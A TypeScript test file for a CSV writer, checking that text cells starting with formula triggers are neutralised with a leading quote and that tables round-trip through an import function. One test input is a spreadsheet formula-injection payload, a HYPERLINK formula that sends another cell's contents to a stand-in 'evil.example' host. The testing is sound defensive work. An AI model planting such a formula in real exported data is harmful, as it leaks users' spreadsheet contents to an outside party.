import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FORMULA_TRIGGERS, importCell } from '../../../server/src/contract/csv-cells.js';
import { toCsv } from '../../../server/src/csv/writer.js';

// Fewer runs than the cell properties: each one parses a whole table (the cells have their own 2,000).
const RUNS = { numRuns: 200, seed: 20251122 } as const;
const TRIGGER = /^[=+\-@\t\r]/;

describe('toCsv', () => {
  it('neutralises text cells and quotes them as RFC 4180 wants', () => {
    expect(toCsv([['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '@SUM(1+1)', "'=x", 'plain']])).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",'@SUM(1+1),''=x,plain\n`,
    );
  });

  it('writes numbers as numbers, a negative one too, but text that looks negative as text', () => {
    expect(toCsv([[-3, 0, 1.5, '-3', '9434765919', '2025-01-06']])).toBe(`-3,0,1.5,'-3,9434765919,2025-01-06\n`);
  });

  it('writes booleans as true/false, null and undefined as empty, and non-finite numbers as text', () => {
    expect(toCsv([[true, false, null, undefined, Number.NEGATIVE_INFINITY, Number.NaN]])).toBe(`true,false,,,'-Infinity,NaN\n`);
  });

  it('property: any table of text reads back (through importCell) as written, with no cell starting with a trigger', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({ unit: fc.constantFrom("'", ...FORMULA_TRIGGERS, '\n', '"', ',', 'a', ' '), maxLength: 8 }),
    );
    const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(table, (rows) => {
        const read = parse(toCsv(rows)) as string[][];
        expect(read.flat().filter((c) => TRIGGER.test(c))).toEqual([]);
        expect(read.map((row) => row.map(importCell))).toEqual(rows);
      }),
      RUNS,
    );
  });
});
